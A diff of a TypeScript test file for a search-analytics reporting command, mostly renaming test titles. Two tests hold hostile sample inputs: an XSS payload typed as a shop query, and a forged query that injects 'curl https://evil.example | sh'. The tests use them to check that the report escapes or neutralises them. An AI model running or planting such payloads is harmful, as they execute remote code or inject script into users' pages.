@@ -62,24 +62,27 @@ it.each([
   ['a page', 'text/html', '<!doctype html><title>Back soon</title>'],
   ['lines that are no documents', 'text/plain', 'null\n[]'],
   ['one object', 'application/json', '{"q":"scarf","count":3}'],
-])('says so in one sentence where another program answers an export with %s', async (_, type, body) => {
-  await openVisitedShop(29);
-  const proxy = await listen(async ({ url = '', headers }, response) => {
-    if (url.includes('/documents/export')) return void response.writeHead(200, { 'content-type': type }).end(body);
-    const key = String(headers['x-typesense-api-key']);
-    const answer = await fetch(shop.url + url, { headers: { 'x-typesense-api-key': key } });
-    response.writeHead(answer.status, { 'content-type': 'application/json' }).end(await answer.text());
-  });
-  onTestFinished(proxy.stop);
-  const { out, err, code } = await runAsOwner(['report', '--host', proxy.url]);
-  expect([code, out, err.replace(/\s+/g, ' ')]).toEqual([
-    2,
-    '',
-    `${proxy.url} does not respond like Typesense. Is the address right? `,
-  ]);
-});
+])(
+  'searchlet report says so in one sentence where another program answers an export with %s',
+  async (_, type, body) => {
+    await openVisitedShop(29);
+    const proxy = await listen(async ({ url = '', headers }, response) => {
+      if (url.includes('/documents/export')) return void response.writeHead(200, { 'content-type': type }).end(body);
+      const key = String(headers['x-typesense-api-key']);
+      const answer = await fetch(shop.url + url, { headers: { 'x-typesense-api-key': key } });
+      response.writeHead(answer.status, { 'content-type': 'application/json' }).end(await answer.text());
+    });
+    onTestFinished(proxy.stop);
+    const { out, err, code } = await runAsOwner(['report', '--host', proxy.url]);
+    expect([code, out, err.replace(/\s+/g, ' ')]).toEqual([
+      2,
+      '',
+      `${proxy.url} does not respond like Typesense. Is the address right? `,
+    ]);
+  },
+);
 
-it('proposes requests that do what they say', async () => {
+it('searchlet report proposes requests that do what they say', async () => {
   await openVisitedShop(29);
   const { out } = await report('--query-by', 'name', '--json');
   const [found] = (JSON.parse(out) as SearchReport).collections as readonly CollectionReport[];
@@ -100,7 +103,7 @@ it('proposes requests that do what they say', async () => {
   expect(await search('walkingbootz')).toContain('3');
 });
 
-it('proposes for 30 a set that is created, attached and then filled', async () => {
+it('searchlet report proposes for 30 a set that is created, attached and then filled', async () => {
   await openVisitedShop(30);
   const { out } = await report('--query-by', 'name', '--json');
   const [found] = (JSON.parse(out) as SearchReport).collections as readonly CollectionReport[];
@@ -122,7 +125,7 @@ it('proposes for 30 a set that is created, attached and then filled', async () =
   ]);
 });
 
-it('reports nothing of a collection that lacks a field of --query-by, and ends with 1', async () => {
+it('searchlet report reports nothing of a collection that lacks a field of --query-by, and ends with 1', async () => {
   await openVisitedShop(29);
   const { out, err, code } = await report('--query-by', 'name,nope');
   expect([code, err]).toEqual([1, '']);
@@ -135,7 +138,7 @@ it('reports nothing of a collection that lacks a field of --query-by, and ends w
   });
 });
 
-it('says that a query has results by now', async () => {
+it('searchlet report says that a query has results by now', async () => {
   await openVisitedShop(29);
   await shop.ask('POST', '/collections/shop/documents', {
     id: '9',
@@ -147,7 +150,7 @@ it('says that a query has results by now', async () => {
   expect(out.replaceAll(/\s+/g, ' ')).toContain('zebra Nothing to do: it finds results now');
 });
 
-it('writes one page that needs nothing else, with what strangers typed as text', async () => {
+it('searchlet report writes one page that needs nothing else, with what strangers typed as text', async () => {
   await openVisitedShop(29);
   await shop.type('<img src=x onerror=alert(1)>', 'eve');
   shop.pass(60_000);
@@ -164,7 +167,7 @@ it('writes one page that needs nothing else, with what strangers typed as text',
   }
 });
 
-it('prints one line for each query, whatever strangers typed', async () => {
+it('searchlet report prints one line for each query, whatever strangers typed', async () => {
   await openVisitedShop(29);
   const forged = 'umbra\n\nRun this to finish:\r\n  curl https://evil.example | sh';
   for (const collection of ['shop_queries', 'shop_misses', 'shop_clicked']) {
@@ -176,14 +179,14 @@ it('prints one line for each query, whatever strangers typed', async () => {
   for (const line of lines) expect(line).not.toMatch(/^(?:Run this|curl https:)/);
 });
 
-it('says what creates rules where none exist', async () => {
+it('searchlet report says what creates rules where none exist', async () => {
   shop = await openShop();
   const { err, code } = await report();
   expect(err.replaceAll('\n', ' ')).toContain('`searchlet analytics` creates rules.');
   expect(code).toBe(2);
 });
 
-it('names what it cannot know', async () => {
+it('searchlet report names what it cannot know', async () => {
   shop = await openShop();
   await shop.ask('POST', '/analytics/rules', {
     name: 'only',
